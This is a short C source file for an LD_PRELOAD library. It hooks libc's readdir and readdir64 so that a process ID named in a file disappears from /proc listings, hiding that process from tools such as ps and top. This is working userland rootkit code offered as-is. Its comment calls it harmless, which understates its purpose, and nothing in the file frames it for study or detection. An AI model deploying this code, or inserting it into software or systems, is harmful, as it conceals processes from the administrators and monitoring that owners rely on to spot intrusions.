/*
 * A preload library that hides one pid from every program that lists /proc through libc, as real ones do.
 * The pid is in the file HIDE_FILE. Harmless: it only leaves a name out of readdir.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdio.h>
#include <string.h>

static int is_hidden(const char *name)
{
	char pid[16] = "";
	FILE *file = fopen(HIDE_FILE, "r");

	if (!file)
		return 0;
	if (!fgets(pid, sizeof(pid), file))
		pid[0] = 0;
	fclose(file);
	pid[strcspn(pid, "\n")] = 0;
	return pid[0] && !strcmp(pid, name);
}

struct dirent *readdir(DIR *dir)
{
	struct dirent *(*next)(DIR *) = dlsym(RTLD_NEXT, "readdir");
	struct dirent *entry;

	while ((entry = next(dir)) && is_hidden(entry->d_name))
		;
	return entry;
}

struct dirent64 *readdir64(DIR *dir)
{
	struct dirent64 *(*next)(DIR *) = dlsym(RTLD_NEXT, "readdir64");
	struct dirent64 *entry;

	while ((entry = next(dir)) && is_hidden(entry->d_name))
		;
	return entry;
}
